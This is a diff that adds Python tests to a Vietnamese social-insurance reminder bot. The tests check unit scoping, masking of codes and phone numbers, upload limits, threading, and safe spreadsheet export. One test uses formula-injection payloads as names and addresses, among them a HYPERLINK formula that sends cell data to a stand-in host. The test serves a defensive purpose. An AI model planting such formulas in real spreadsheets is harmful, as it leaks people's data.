@@ -4,6 +4,7 @@ person's own contact, /hethan, the reminder buttons, and the agents' /danhsach."
 from __future__ import annotations
 
 import io
+import threading
 from importlib import resources
 
 import openpyxl
@@ -272,3 +273,152 @@ async def test_danhsach_for_an_admin_covers_every_card_even_before_units_exist(
     text, document = await admin.replies(count=2)
     assert "tất cả đơn vị" in text.plain_text and f"{lapsed} người" in text.plain_text
     assert len(read_xlsx(document.file_bytes or b"")[3:]) == lapsed > 300
+
+
+# --------------------------------------------------------------------------- review fixes
+
+COMMUNE_OFFICIAL_ID = 6109
+SHORT_HEADER = "Họ và tên,Mã số BHXH,Số điện thoại,Địa chỉ,Mã đơn vị,Hạn thẻ đến"
+
+
+async def commune_official(harness: BotHarness, emulator: BotApiEmulator) -> EmulatedUser:
+    """An official of Xã Nhị Long (CL13) only; the sample list is on file."""
+    await seed(harness.services)
+    await import_sample(harness.services)
+    await harness.services.members.add(full_name="Cán bộ xã", role=Role.OFFICIAL, unit_code="CL13",
+                                       actor=CLI_ACTOR, at=DEFAULT_NOW, user_id=COMMUNE_OFFICIAL_ID)
+    return emulator.user(COMMUNE_OFFICIAL_ID, first_name="Chín")
+
+
+async def test_an_official_cannot_take_over_a_card_of_another_unit(
+    harness: BotHarness, emulator: BotApiEmulator
+) -> None:
+    official = await commune_official(harness, emulator)
+    before = await harness.services.cards.repo.get("8423001330")  # Trần Thanh Cường, Xã Tân Bình (CL07)
+    assert before is not None and before.unit_code == "CL07"
+    upload = "\n".join([
+        SHORT_HEADER,
+        "Trần Thanh Cường,8423001330,0911111111,Ấp 1,CL13,31/12/2027",  # a CL07 person moved to CL13
+        "Người Xã Khác,8429999999,0922222222,Ấp 9,CL07,31/12/2027",  # a row of another unit
+        "Người Mới,8428888888,0933333333,Ấp 2,CL13,31/12/2027",  # in scope: taken
+    ]).encode()
+    await official.send_document("chiem_the.csv", upload)
+    (report,) = await official.replies(timeout=10)
+    text = report.plain_text
+    assert "nhập 1 người" in text and "Thêm mới 1 · cập nhật 0" in text
+    # Both refused rows read the same: nothing says the first code is on file in another unit.
+    line_2 = next(line for line in text.splitlines() if line.startswith("• Dòng 2:"))
+    line_3 = next(line for line in text.splitlines() if line.startswith("• Dòng 3:"))
+    assert "ngoài phạm vi" in line_2
+    assert line_2.removeprefix("• Dòng 2:") == line_3.removeprefix("• Dòng 3:")
+    assert "CL07" not in text and "Tân Bình" not in text
+    assert await harness.services.cards.repo.get("8423001330") == before  # unit and phone unchanged
+    assert await harness.services.cards.repo.get("8429999999") is None
+    assert await harness.services.cards.repo.get("8428888888") is not None
+
+
+async def test_the_import_report_masks_codes_and_phones(harness: BotHarness, emulator: BotApiEmulator) -> None:
+    admin = emulator.user(ADMIN_ID, first_name="Quản trị")
+    upload = "\n".join([
+        SHORT_HEADER,
+        "Lê Văn A,84000000012,0912345678,Ấp 1,CL13,31/12/2026",  # 11 digits: refused
+        "Lê Văn B,8423000111,091234567,Ấp 1,CL13,31/12/2026",  # 9-digit phone: dropped
+    ]).encode()
+    await admin.send_document("sai_so.csv", upload)
+    (report,) = await admin.replies(timeout=10)
+    text = report.plain_text
+    assert "84000000012" not in text and "091234567" not in text
+    assert "(84******012)" in text and "(0912***567)" in text
+
+
+async def test_a_chat_upload_over_the_row_cap_is_refused_and_writes_nothing(
+    harness: BotHarness, emulator: BotApiEmulator
+) -> None:
+    admin = emulator.user(ADMIN_ID, first_name="Quản trị")
+    rows = [f"Người {i},{8400000000 + i},,,CL13,31/12/2026" for i in range(20_001)]
+    await admin.send_document("qua_lon.csv", "\n".join([SHORT_HEADER, *rows]).encode())
+    (answer,) = await admin.replies(timeout=20)
+    text = answer.plain_text
+    assert "20.000 dòng" in text and "bhxh-bot import cards" in text and "Chưa nhập gì" in text
+    assert await cards_count(harness) == 0
+
+
+async def test_parsing_and_the_workbook_run_off_the_event_loop(
+    harness: BotHarness, emulator: BotApiEmulator, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """The heavy openpyxl work (reading an upload, saving /danhsach) happens in worker threads:
+    a 200.000-row file used to freeze every chat and job for a minute."""
+    loop_thread = threading.get_ident()
+    threads: dict[str, int] = {}
+    load, save = openpyxl.load_workbook, openpyxl.Workbook.save
+
+    def spy_load(*args: object, **kwargs: object) -> object:
+        threads["load"] = threading.get_ident()
+        return load(*args, **kwargs)
+
+    def spy_save(self: openpyxl.Workbook, *args: object, **kwargs: object) -> None:
+        threads["save"] = threading.get_ident()
+        save(self, *args, **kwargs)
+
+    monkeypatch.setattr(openpyxl, "load_workbook", spy_load)
+    monkeypatch.setattr(openpyxl.Workbook, "save", spy_save)
+    admin = emulator.user(ADMIN_ID, first_name="Quản trị")
+    await admin.send_document("the_het_han_2026.xlsx", XLSX)
+    (report,) = await admin.replies(timeout=10)
+    assert "nhập 369 người" in report.plain_text
+    await admin.say("/danhsach")
+    _, document = await admin.replies(count=2, timeout=10)
+    assert document.file_bytes
+    assert threads.keys() == {"load", "save"}
+    assert threads["load"] != loop_thread and threads["save"] != loop_thread
+
+
+async def test_nhac_clears_opt_out_and_block_together_or_not_at_all(
+    harness: BotHarness, emulator: BotApiEmulator
+) -> None:
+    person = await linked_person(harness, emulator)
+    db = harness.services.db
+    await person.say("/dunglai")
+    await person.replies()
+    await db.execute(
+        "INSERT INTO reminder_blocks(channel, user_id, blocked_at, blocked_on) VALUES ('telegram', ?, ?, ?)",
+        (CITIZEN_ID, DEFAULT_NOW.isoformat(), DEFAULT_NOW.date().isoformat()),
+    )
+    # The second write of /nhac fails: the first must not stay written on its own.
+    await db.execute(
+        "CREATE TRIGGER no_unblock BEFORE UPDATE ON reminder_blocks BEGIN SELECT RAISE(ABORT, 'test'); END"
+    )
+    await person.say("/nhac")
+    await person.replies()  # the error safety net answers
+    assert await harness.services.reminders.is_opted_out(CITIZEN_ID)
+    assert await harness.services.reminders.repo.is_blocked(CITIZEN_ID)
+    await db.execute("DROP TRIGGER no_unblock")
+    await person.say("/nhac")
+    (resumed,) = await person.replies()
+    assert "Đã bật nhắc" in resumed.plain_text
+    assert not await harness.services.reminders.is_opted_out(CITIZEN_ID)
+    assert not await harness.services.reminders.repo.is_blocked(CITIZEN_ID)
+
+
+async def test_names_and_addresses_never_become_formulas_in_danhsach(
+    harness: BotHarness, emulator: BotApiEmulator
+) -> None:
+    risky = {
+        "8427000001": ('=HYPERLINK("http://x.example/"&A1)', "+84 Ấp 1"),
+        "8427000002": ("@SUM(1+1)", "-2+3 Ấp 2"),
+    }
+    lines = [SHORT_HEADER] + [
+        f'"{name.replace(chr(34), chr(34) * 2)}",{code},,"{address}",CL13,01/09/2026'
+        for code, (name, address) in risky.items()
+    ]
+    await harness.services.cards.import_list("\n".join(lines).encode(), "x.csv", None)
+    admin = emulator.user(ADMIN_ID, first_name="Quản trị")
+    await admin.say("/danhsach")
+    _, document = await admin.replies(count=2, timeout=10)
+    sheet = openpyxl.load_workbook(io.BytesIO(document.file_bytes or b"")).active
+    cells = {row[2].value: row for row in sheet.iter_rows(min_row=4)}
+    assert len(cells) == 2
+    for code, (name, address) in risky.items():
+        row = cells[f"{code[:2]}*****{code[-3:]}"]
+        assert (row[1].value, row[1].data_type) == (name, "s")
+        assert (row[4].value, row[4].data_type) == (address, "s")
